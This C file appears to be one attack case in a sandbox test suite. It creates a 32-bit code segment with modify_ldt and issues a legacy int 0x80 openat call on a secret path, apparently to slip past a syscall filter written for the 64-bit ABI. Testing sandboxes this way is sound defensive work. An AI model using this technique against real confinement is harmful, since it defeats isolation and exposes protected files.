/* A 32-bit code segment of one's own (modify_ldt), from which int 0x80 is called. */
#include "../attack.h"
#include <asm/ldt.h>
enum { STUB = 0, FAR = 64, CODE = 128, PATH = 256, STACK = 8000 };
int main(void)
{
	unsigned char *low = mmap(NULL, 8192, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	struct user_desc segment = { .limit = 0xfffff, .seg_32bit = 1, .contents = 2, .limit_in_pages = 1 };
	if (low == MAP_FAILED || syscall(SYS_modify_ldt, 1, &segment, sizeof segment) != 0)
		return 1;
	uint32_t base = (uint32_t)(uintptr_t)low, far = base + FAR, code = base + CODE;
	uint16_t selector = 7;
	memcpy(low + STUB, (unsigned char[]){ 0xff, 0x1c, 0x25 }, 3); /* lcall *FAR; ret */
	memcpy(low + STUB + 3, &far, 4);
	low[STUB + 7] = 0xc3;
	memcpy(low + FAR, &code, 4);
	memcpy(low + FAR + 4, &selector, 2);
	memcpy(low + CODE, (unsigned char[]){ 0xcd, 0x80, 0xcb }, 3); /* int 0x80; retf */
	strcpy((char *)low + PATH, SECRET);
	long result;
	__asm__ volatile("mov %%rsp, %%r15; mov %[stack], %%rsp; call *%[stub]; mov %%r15, %%rsp"
			 : "=a"(result)
			 : "a"(295), "b"(AT_FDCWD), "c"((long)base + PATH), "d"(0), "S"(0), [stack] "r"(low + STACK), [stub] "r"(low)
			 : "memory", "r15", "cc");
	return show((int)result);
}
